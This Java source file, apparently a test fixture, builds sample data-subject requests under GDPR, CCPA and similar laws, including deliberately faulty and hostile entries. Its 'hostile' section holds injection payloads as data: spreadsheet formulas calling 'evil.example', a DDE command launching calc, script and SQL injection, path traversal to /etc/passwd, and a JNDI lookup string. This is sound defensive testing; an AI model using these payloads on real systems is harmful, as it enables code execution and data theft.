package io.genesysdsr.pipeline;

import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import org.jspecify.annotations.Nullable;

/**
 * What somebody asks for, before it is written down in the way of a channel.
 *
 * @param key what it is called here, unique
 * @param reference the end of the reference that it is sent under
 * @param receivedAt the sender's claim, or null for none
 * @param identifiers kind and value, as the person wrote it
 * @param correction kind, existing and updated value; or null
 * @param proved whether an agent's word comes with it
 */
record Asking(
        String key,
        String reference,
        String regulation,
        String right,
        @Nullable String receivedAt,
        @Nullable String name,
        List<Known> identifiers,
        @Nullable Correction correction,
        boolean proved,
        @Nullable String country,
        @Nullable String language) {

    static final LocalDate DAY = LocalDate.now(ZoneOffset.UTC).minusDays(20);

    private static final Known ADA = new Known("EMAIL", "Ada.Lovelace@Example.ORG");
    private static final Known GRACE = new Known("EMAIL", "grace@example.org");

    /** By what somebody is known. */
    record Known(String kind, String value) {}

    /** What is wrong, and what is right. */
    record Correction(String kind, String existing, String updated) {}

    /** Whether a column of its own for each identifier says all of it. */
    boolean isFlat() {
        return identifiers.stream().noneMatch(i -> i.kind().equals("MYSPACE"));
    }

    /** They differ in all that a channel could spoil; the last three repeat earlier ones. */
    static List<Asking> all() {
        String claim = Instant.now()
                .minus(Duration.ofDays(3))
                .truncatedTo(ChronoUnit.SECONDS)
                .atOffset(ZoneOffset.ofHours(1))
                .toString();
        List<Asking> all = new ArrayList<>(travellers(claim));
        all.addAll(manifold(claim));
        all.addAll(faulty(claim));
        all.addAll(hostile(claim));
        all.addAll(dated(claim));
        all.add(all.get(0).as("german-again", "german"));
        all.add(all.get(1).as("british-joined", "british-joined"));
        all.add(all.get(2).as("american-conflicting", "american").knownBy(new Known("EXTERNAL_ID", "C-000418")));
        return all;
    }

    private static List<Asking> travellers(String claim) {
        Known british = new Known("PHONE", "0044 20 7946 0958");
        return List.of(
                of("german", "GDPR", "ACCESS", claim, "Ada Lovelace", ADA, new Known("PHONE", "030 901820"))
                        .from("DE", "de"),
                of("british", "UK_GDPR", "ERASURE", claim, "Grace O'Hopper", GRACE, british)
                        .from("GB", "en-GB"),
                of(
                                "american",
                                "CCPA",
                                "PORTABILITY",
                                claim,
                                "Alan \"T\" Turing",
                                new Known("PHONE", "(415) 555-2671"),
                                new Known("EXTERNAL_ID", "C-000417"))
                        .from("us", "en-us"),
                of("brazilian", "LGPD", "ACCESS", claim, "João Gonçalves", new Known("PHONE", "+55 11 91234-5678")),
                of("corrected", "GDPR", "RECTIFICATION", claim, "Edsger", new Known("EMAIL", "edsger@example.org"))
                        .correcting(new Correction("EMAIL", "edsger@example.org", "E.W@example.org")));
    }

    private static List<Asking> manifold(String claim) {
        return List.of(
                of(
                                "much-known",
                                "GDPR",
                                "ACCESS",
                                claim,
                                "Zoë Łukasiewicz-Brûlée",
                                new Known("EMAIL", "zoe@example.org"),
                                new Known("EMAIL", "zoë@müller.example"),
                                new Known("PHONE", "+49 (0)30 901820"),
                                new Known("PHONE", "+43 1 58858"),
                                new Known("ADDRESS", "Straße des 17. Juni 135, 10623 Berlin; \"Hof\""),
                                new Known("EXTERNAL_ID", "0042"))
                        .from("DE", "pl"),
                of(
                        "social",
                        "GDPR",
                        "ERASURE",
                        claim,
                        "李小龍",
                        new Known("TWITTER", "@ada"),
                        new Known("INSTAGRAM", "ada.l"),
                        new Known("FACEBOOK", "ada|lovelace"),
                        new Known("APPLE_MESSAGES", "urn:mbid:AQAAY3")),
                of("twice", "GDPR", "ACCESS", claim, null, ADA, ADA, new Known("EMAIL", "ada.lovelace@example.org")));
    }

    private static List<Asking> faulty(String claim) {
        return List.of(
                of("unproved", "GDPR", "ACCESS", claim, "Ada", ADA).unproved(),
                of("undated", "UK_GDPR", "ERASURE", null, "Grace", GRACE).unproved(),
                of("unknown-right", "GDPR", "FORGET_ME", claim, "Ada", ADA),
                of("unknown-law", "POPIA", "ACCESS", claim, "Ada", new Known("EMAIL", "nobody")),
                of("unknown-kind", "GDPR", "ACCESS", claim, "Ada", new Known("MYSPACE", "ada")),
                of("phone-of-nowhere", "GDPR", "ACCESS", claim, "Ada", new Known("PHONE", "030 901820")),
                of("from-nowhere", "GDPR", "ACCESS", "1990-01-01T00:00:00Z", "Ada", ADA)
                        .from("Narnia", "not a language"));
    }

    private static List<Asking> hostile(String claim) {
        return List.of(
                of(
                        "formula",
                        "GDPR",
                        "ACCESS",
                        claim,
                        "=HYPERLINK(\"http://evil.example\";\"x\")",
                        new Known("EXTERNAL_ID", "@SUM(1+1)*cmd|' /C calc'!A0")),
                of(
                        "markup",
                        "GDPR",
                        "ACCESS",
                        claim,
                        "<script>alert('x')</script>'; drop table request; --",
                        new Known("EXTERNAL_ID", "../../etc/passwd"),
                        new Known("EXTERNAL_ID", "${jndi:ldap://evil.example}")));
    }

    private static List<Asking> dated(String claim) {
        return List.of(
                of("of-a-day", "GDPR", "ACCESS", DAY.toString(), "Hedy", new Known("EMAIL", "hedy@example.org")),
                of("spaced", "GDPR", "ACCESS", DAY + " 09:12:00+01:00", "Emmy", new Known("EMAIL", "emmy@example.org")),
                of("ancient", "GDPR", "ACCESS", "1969-07-20T20:17:40Z", "Neil", ADA)
                        .from("Eagle", "en"),
                of("timeless", "GDPR", "FORGET_ME", "infinity", "Georg", ADA),
                of("garbled", "GDPR", "ACCESS", claim, "J\ufffdrgen", new Known("EXTERNAL_ID", "Gr\ufffd\ufffde")));
    }

    private static Asking of(
            String key, String regulation, String right, @Nullable String at, @Nullable String name, Known... known) {
        return new Asking(key, key, regulation, right, at, name, List.of(known), null, true, null, null);
    }

    private Asking from(String where, String speaks) {
        return new Asking(
                key, reference, regulation, right, receivedAt, name, identifiers, correction, proved, where, speaks);
    }

    private Asking correcting(Correction wrong) {
        return new Asking(
                key, reference, regulation, right, receivedAt, name, identifiers, wrong, proved, country, language);
    }

    private Asking unproved() {
        return new Asking(
                key, reference, regulation, right, receivedAt, name, identifiers, correction, false, country, language);
    }

    private Asking as(String called, String under) {
        return new Asking(
                called, under, regulation, right, receivedAt, name, identifiers, correction, proved, country, language);
    }

    private Asking knownBy(Known... others) {
        return new Asking(
                key,
                reference,
                regulation,
                right,
                receivedAt,
                name,
                List.of(others),
                correction,
                proved,
                country,
                language);
    }
}
